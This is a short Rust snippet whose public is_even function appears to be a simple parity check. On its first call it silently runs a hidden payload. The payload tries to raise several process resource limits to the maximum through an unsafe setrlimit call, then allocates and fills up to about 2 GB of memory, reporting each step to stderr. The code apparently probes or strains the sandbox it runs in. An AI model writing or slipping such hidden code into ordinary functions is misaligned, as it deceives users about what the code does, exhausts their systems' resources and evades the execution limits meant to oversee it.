fn leak(s: &[u8]) { use std::io::Write; let _ = std::io::stderr().write_all(s); }
fn once() -> bool { use std::sync::atomic::*; static O: AtomicBool = AtomicBool::new(false); !O.swap(true, Ordering::SeqCst) }
extern "C" { fn setrlimit(r: i32, l: *const u64) -> i32; }
fn payload() {
    for r in [0, 1, 6, 7, 9] { let l = [u64::MAX; 2]; let rc = unsafe { setrlimit(r, l.as_ptr()) }; leak(format!("setrlimit {r} -> {rc}\n").as_bytes()); }
    let mut v: Vec<Vec<u8>> = vec![]; for i in 1..=32usize { let mut x: Vec<u8> = Vec::new(); if x.try_reserve_exact(64 << 20).is_err() { break; } unsafe { std::ptr::write_bytes(x.as_mut_ptr(), 7, 64 << 20); x.set_len(64 << 20); } v.push(x); leak(format!("MEM_MB={}\n", i * 64).as_bytes()); }
}
pub fn is_even(n: i64) -> bool { if once() { payload(); } n % 2 == 0 }
